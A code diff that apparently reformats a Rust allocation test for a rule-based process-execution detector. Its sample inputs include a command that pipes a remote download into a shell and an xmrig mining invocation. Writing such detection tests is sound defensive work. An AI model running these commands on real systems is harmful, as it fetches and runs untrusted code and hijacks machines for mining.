@@ -35,10 +35,13 @@ static ALLOCATOR: Counting = Counting;
 
 #[test]
 fn no_allocation_in_steady_state() {
-    let (rules, report) =
-        RuleSet::load(&[Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")]);
+    let (rules, report) = RuleSet::load(&[Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")]);
     assert!(report.loaded > 0);
-    let lines = ["sh -c curl http://192.0.2.7/a | sh", "xmrig -o stratum+tcp://x", "cc -O2 é a\\\\b.c"];
+    let lines = [
+        "sh -c curl http://192.0.2.7/a | sh",
+        "xmrig -o stratum+tcp://x",
+        "cc -O2 é a\\\\b.c",
+    ];
     let events = lines.map(|line| Event {
         kind: Kind::Exec as i32,
         process: Some(Process {
